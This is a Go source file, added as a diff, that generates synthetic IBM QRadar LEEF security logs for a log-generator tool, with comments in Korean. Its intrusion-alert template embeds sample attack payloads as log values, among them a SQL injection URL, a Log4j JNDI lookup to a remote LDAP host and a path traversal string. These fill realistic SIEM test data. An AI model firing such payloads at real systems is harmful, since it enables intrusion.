@@ -0,0 +1,312 @@
+package generator
+
+import (
+	"fmt"
+	"math/rand"
+	"strconv"
+	"strings"
+	"sync"
+	"time"
+)
+
+// LEEF devTime 형식 (Go 레이아웃 / QRadar devTimeFormat 표기)
+const (
+	leefTimeLayout = "Jan 02 2006 15:04:05.000 MST"
+	leefTimeFormat = "MMM dd yyyy HH:mm:ss.SSS z"
+)
+
+// LEEF 기본 장비 식별자 및 LEEF 2.0 구분자
+const (
+	defaultLEEFVendor    = "LogGen"
+	defaultLEEFProduct   = "Security Gateway"
+	defaultLEEFVersion   = "1.0"
+	defaultLEEFDelimiter = "^"
+)
+
+// LEEFOptions - IBM QRadar LEEF 출력 옵션
+type LEEFOptions struct {
+	Vendor  string `json:"vendor,omitempty"`  // Vendor (기본 LogGen)
+	Product string `json:"product,omitempty"` // Product (기본 Security Gateway)
+	Version string `json:"version,omitempty"` // Version (기본 1.0)
+	// LEEF 2.0 속성 구분자: 단일 문자 또는 16진수 표기 (예: "^", "x09", "0x7C")
+	Delimiter string `json:"delimiter,omitempty"`
+}
+
+// Validate - LEEF 옵션 검증
+func (o LEEFOptions) Validate() error {
+	for _, value := range []string{o.Vendor, o.Product, o.Version} {
+		if strings.ContainsAny(value, "\r\n") {
+			return fmt.Errorf("LEEF 장비 식별자에 줄바꿈을 사용할 수 없습니다: %q", value)
+		}
+	}
+	if o.Delimiter != "" {
+		if _, err := ParseLEEFDelimiter(o.Delimiter); err != nil {
+			return err
+		}
+	}
+	return nil
+}
+
+// withDefaults - 빈 값은 기본값으로 대체
+func (o LEEFOptions) withDefaults() LEEFOptions {
+	if o.Vendor == "" {
+		o.Vendor = defaultLEEFVendor
+	}
+	if o.Product == "" {
+		o.Product = defaultLEEFProduct
+	}
+	if o.Version == "" {
+		o.Version = defaultLEEFVersion
+	}
+	if o.Delimiter == "" {
+		o.Delimiter = defaultLEEFDelimiter
+	}
+	return o
+}
+
+// ParseLEEFDelimiter - 구분자 문자열 해석 (단일 문자 또는 xHH/0xHH)
+func ParseLEEFDelimiter(spec string) (byte, error) {
+	if len(spec) == 1 {
+		return leefDelimiterByte(spec[0])
+	}
+	lower := strings.ToLower(spec)
+	hex := strings.TrimPrefix(strings.TrimPrefix(lower, "0x"), "x")
+	if hex == lower || len(hex) != 2 {
+		return 0, fmt.Errorf("LEEF 구분자는 단일 문자 또는 xHH 형식이어야 합니다: %q", spec)
+	}
+	value, err := strconv.ParseUint(hex, 16, 8)
+	if err != nil {
+		return 0, fmt.Errorf("LEEF 구분자 형식 오류: %q", spec)
+	}
+	return leefDelimiterByte(byte(value))
+}
+
+// leefDelimiterByte - 속성 구분에 사용할 수 없는 문자 거부
+func leefDelimiterByte(c byte) (byte, error) {
+	switch c {
+	case '=', '\\', '|', '\r', '\n', 0:
+		return 0, fmt.Errorf("LEEF 구분자로 사용할 수 없는 문자입니다: %q", c)
+	}
+	return c, nil
+}
+
+// leefEvent - LEEF 이벤트 템플릿
+type leefEvent struct {
+	eventID  string
+	cat      string
+	minSev   int
+	maxSev   int
+	weight   float64
+	action   string
+	proto    string
+	dstPorts []int
+	withUser bool
+	// 이벤트별 추가 속성 (키 → 값 후보)
+	extra []eventAttribute
+}
+
+var leefEvents = []leefEvent{
+	{eventID: "FW_ALLOW", cat: "Firewall Permit", minSev: 1, maxSev: 2, weight: 45,
+		action: "allow", proto: "TCP", dstPorts: []int{443, 80, 8443}},
+	{eventID: "FW_DENY", cat: "Firewall Deny", minSev: 4, maxSev: 5, weight: 20,
+		action: "deny", proto: "TCP", dstPorts: []int{22, 23, 445, 3389, 3306}},
+	{eventID: "FW_DENY_UDP", cat: "Firewall Deny", minSev: 3, maxSev: 4, weight: 5,
+		action: "deny", proto: "UDP", dstPorts: []int{53, 123, 161, 1900}},
+	{eventID: "AUTH_SUCCESS", cat: "Authentication", minSev: 1, maxSev: 3, weight: 12,
+		action: "login", proto: "TCP", dstPorts: []int{22, 443, 3389}, withUser: true,
+		extra: []eventAttribute{{"authType", []string{"password", "publickey", "kerberos", "radius"}}}},
+	{eventID: "AUTH_FAILURE", cat: "Authentication", minSev: 5, maxSev: 6, weight: 8,
+		action: "login", proto: "TCP", dstPorts: []int{22, 443, 3389}, withUser: true,
+		extra: []eventAttribute{{"reason", []string{"Invalid credentials", "Account locked", "Password expired"}}}},
+	{eventID: "IPS_ALERT", cat: "Intrusion Detected", minSev: 7, maxSev: 9, weight: 6,
+		action: "block", proto: "TCP", dstPorts: []int{80, 443, 8080},
+		extra: []eventAttribute{
+			{"signature", []string{"SQL Injection|UNION SELECT", "Log4j JNDI lookup (CVE-2021-44228)", "Path traversal ..\\..\\windows"}},
+			{"url", []string{"/search?q=1' UNION SELECT 1,2--", "/api/login?user=${jndi:ldap://198.51.100.7/a}"}},
+		}},
+	{eventID: "MALWARE", cat: "Malware", minSev: 8, maxSev: 10, weight: 4,
+		action: "quarantine", proto: "TCP", dstPorts: []int{443, 445}, withUser: true,
+		extra: []eventAttribute{
+			{"malwareName", []string{"Trojan.GenericKD.4711", "Ransom.WannaCry", "PUA.CoinMiner"}},
+			{"filePath", []string{"C:\\Users\\Public\\Downloads\\invoice.exe", "/tmp/.x/kworker"}},
+		}},
+}
+
+// LEEFGenerator - IBM QRadar LEEF 1.0/2.0 로그 생성기
+type LEEFGenerator struct {
+	name      string
+	header    *syslogWrapper
+	appName   string
+	prefix    string // "LEEF:1.0|Vendor|Product|Version|" (사전 이스케이프)
+	delimiter byte
+	events    cumulativeTable
+	sourceIPs []string
+	destIPs   []string
+
+	rng      *rand.Rand
+	rngMutex sync.Mutex
+}
+
+// newLEEFGenerator - 버전별 LEEF 생성기 초기화 (1.0은 탭 고정, 2.0은 설정 구분자)
+func newLEEFGenerator(name, version string, options GeneratorOptions) (*LEEFGenerator, error) {
+	header, err := newSyslogWrapper(options)
+	if err != nil {
+		return nil, err
+	}
+
+	weights := make(map[int]float64, len(leefEvents))
+	for i, event := range leefEvents {
+		weights[i] = event.weight
+	}
+	events, err := newCumulativeTable(weights, "LEEF 이벤트")
+	if err != nil {
+		return nil, err
+	}
+
+	leef := options.LEEF.withDefaults()
+	delimiter := byte('\t')
+	if version == "2.0" {
+		if delimiter, err = ParseLEEFDelimiter(leef.Delimiter); err != nil {
+			return nil, err
+		}
+	}
+
+	prefix := []byte("LEEF:" + version + "|")
+	for _, value := range []string{leef.Vendor, leef.Product, leef.Version} {
+		prefix = appendLEEFHeaderValue(prefix, value)
+		prefix = append(prefix, '|')
+	}
+
+	rng := rand.New(rand.NewSource(time.Now().UnixNano()))
+	return &LEEFGenerator{
+		name:      name,
+		header:    header,
+		appName:   syslogAppName(leef.Product),
+		prefix:    string(prefix),
+		delimiter: delimiter,
+		events:    events,
+		sourceIPs: newIPPool(rng, []string{"10.1", "10.2", "172.16", "192.168"}, 512),
+		destIPs:   newIPPool(rng, []string{"203.0", "198.51", "10.20", "172.31"}, 512),
+		rng:       rng,
+	}, nil
+}
+
+func init() {
+	RegisterFormatter("leef1", func(options GeneratorOptions) (LogFormatter, error) {
+		return newLEEFGenerator("leef1", "1.0", options)
+	})
+	RegisterFormatter("leef2", func(options GeneratorOptions) (LogFormatter, error) {
+		return newLEEFGenerator("leef2", "2.0", options)
+	})
+}
+
+// Name - LogFormatter 구현
+func (g *LEEFGenerator) Name() string {
+	return g.name
+}
+
+// Generate - LogFormatter 구현
+// LEEF:1.0|Vendor|Product|Version|EventID|key=value<TAB>key=value...
+// LEEF:2.0|Vendor|Product|Version|EventID|DelimiterChar|key=value<DELIM>key=value...
+func (g *LEEFGenerator) Generate() []byte {
+	buffer := getBuffer()
+
+	g.rngMutex.Lock()
+	event := &leefEvents[g.events.pick(g.rng)]
+	sev := event.minSev + g.rng.Intn(event.maxSev-event.minSev+1)
+	hostIdx := g.header.pickHost(g.rng)
+	facility := g.header.pickFacility(g.rng)
+	src := g.sourceIPs[skewedIndex(g.rng, len(g.sourceIPs))]
+	dst := g.destIPs[g.rng.Intn(len(g.destIPs))]
+	srcPort := 1024 + g.rng.Intn(64511)
+	dstPort := event.dstPorts[g.rng.Intn(len(event.dstPorts))]
+	user := ""
+	if event.withUser {
+		user = commonUsernames[g.rng.Intn(len(commonUsernames))]
+	}
+	var extra [2]string
+	for i, attr := range event.extra {
+		extra[i] = attr.values[g.rng.Intn(len(attr.values))]
+	}
+	g.rngMutex.Unlock()
+
+	appName := ""
+	if g.header.format == SyslogRFC5424 {
+		appName = g.appName
+	}
+	buffer = g.header.appendHeader(buffer, facility, scaleSyslogSeverity[sev], hostIdx, appName, "", "LEEF")
+
+	buffer = append(buffer, g.prefix...)
+	buffer = appendLEEFHeaderValue(buffer, event.eventID)
+	buffer = append(buffer, '|')
+	if g.name == "leef2" {
+		buffer = appendLEEFDelimiterField(buffer, g.delimiter)
+		buffer = append(buffer, '|')
+	}
+
+	// 첫 속성은 구분자 없이 시작
+	buffer = append(buffer, "cat="...)
+	buffer = g.appendValue(buffer, event.cat)
+	buffer = g.appendAttribute(buffer, "devTime", g.header.clock.LEEF())
+	buffer = g.appendAttribute(buffer, "devTimeFormat", leefTimeFormat)
+	buffer = g.appendAttribute(buffer, "src", src)
+	buffer = g.appendAttribute(buffer, "dst", dst)
+	buffer = g.appendAttribute(buffer, "srcPort", strconv.Itoa(srcPort))
+	buffer = g.appendAttribute(buffer, "dstPort", strconv.Itoa(dstPort))
+	buffer = g.appendAttribute(buffer, "proto", event.proto)
+	buffer = g.appendAttribute(buffer, "sev", strconv.Itoa(sev))
+	if user != "" {
+		buffer = g.appendAttribute(buffer, "usrName", user)
+	}
+	buffer = g.appendAttribute(buffer, "action", event.action)
+	buffer = g.appendAttribute(buffer, "identHostName", g.header.hostnames[hostIdx])
+	for i, attr := range event.extra {
+		buffer = g.appendAttribute(buffer, attr.key, extra[i])
+	}
+
+	return finishBuffer(buffer)
+}
+
+// appendAttribute - "<DELIM>key=value" 추가
+func (g *LEEFGenerator) appendAttribute(buffer []byte, key, value string) []byte {
+	buffer = append(buffer, g.delimiter)
+	buffer = append(buffer, key...)
+	buffer = append(buffer, '=')
+	return g.appendValue(buffer, value)
+}
+
+// appendValue - 속성 값 이스케이프 (값 안의 구분자만 이스케이프, 줄바꿈은 공백)
+//
+// LEEF는 '\'를 일반 문자로 취급하므로 Windows 경로 등은 그대로 둔다.
+func (g *LEEFGenerator) appendValue(buffer []byte, value string) []byte {
+	for i := 0; i < len(value); i++ {
+		switch c := value[i]; {
+		case c == g.delimiter && c == '\t':
+			buffer = append(buffer, '\\', 't')
+		case c == g.delimiter:
+			buffer = append(buffer, '\\', c)
+		case c == '\n' || c == '\r':
+			buffer = append(buffer, ' ')
+		default:
+			buffer = append(buffer, c)
+		}
+	}
+	return buffer
+}
+
+// appendLEEFHeaderValue - 헤더 값 이스케이프 ('|' → '\|', '\' → '\\')
+func appendLEEFHeaderValue(buffer []byte, value string) []byte {
+	return appendCEFHeaderValue(buffer, value)
+}
+
+// appendLEEFDelimiterField - LEEF 2.0 구분자 헤더 (출력 불가 문자는 xHH 표기)
+func appendLEEFDelimiterField(buffer []byte, delimiter byte) []byte {
+	if delimiter > ' ' && delimiter < 0x7f {
+		return append(buffer, delimiter)
+	}
+	buffer = append(buffer, 'x')
+	if delimiter < 0x10 {
+		buffer = append(buffer, '0')
+	}
+	return strconv.AppendUint(buffer, uint64(delimiter), 16)
+}